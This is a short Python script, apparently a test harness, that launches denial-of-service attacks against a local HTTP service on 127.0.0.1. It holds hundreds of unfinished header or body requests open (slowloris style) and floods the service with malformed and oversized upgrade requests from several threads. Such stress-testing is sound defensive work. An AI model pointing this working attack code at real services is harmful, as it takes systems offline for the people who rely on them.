"""Attacks on a service of this machine, in a process of their own: python attackers.py ATTACK PORT."""

from __future__ import annotations

import socket
import sys
import threading
import time

HEADERS = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: "
BODIES = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{"
NONSENSE = b"nonsense\r\n\r\n"
UPGRADE = b"GET /" + b"x" * 4000 + b" HTTP/1.1\r\nHost: x\r\nUpgrade: y\r\nConnection: upgrade\r\n\r\n"


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=30)


def hold(port: int, begin: bytes, count: int = 500, at_once: int = 20) -> None:
    """Holds connections that never finish a request, feeds each a byte now and then, and opens new ones for dropped."""
    held: list[socket.socket] = []
    while True:
        for _ in range(min(count - len(held), at_once)):
            try:
                connection = connect(port)
                connection.sendall(begin)
            except OSError:
                break
            connection.setblocking(False)
            held.append(connection)
        held = [connection for connection in held if _fed(connection)]
        time.sleep(0.2)


def _fed(connection: socket.socket) -> bool:
    try:
        connection.send(b"a")
        if connection.recv(65536):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    connection.close()
    return False


def flood(port: int) -> None:
    """Sends requests that are refused, one after the other, as fast as they are answered; says how many."""
    sent = 0
    while True:
        try:
            with connect(port) as connection:
                connection.sendall(UPGRADE if sent % 2 else NONSENSE)
                connection.recv(4096)
            sent += 1
        except OSError:
            continue
        if sent % 500 == 0:
            print(sent, flush=True)


if __name__ == "__main__":
    attack, port = sys.argv[1], int(sys.argv[2])
    if attack == "flood":
        for _ in range(3):
            threading.Thread(target=flood, args=(port,)).start()
        flood(port)
    else:
        hold(port, {"headers": HEADERS, "bodies": BODIES}[attack])
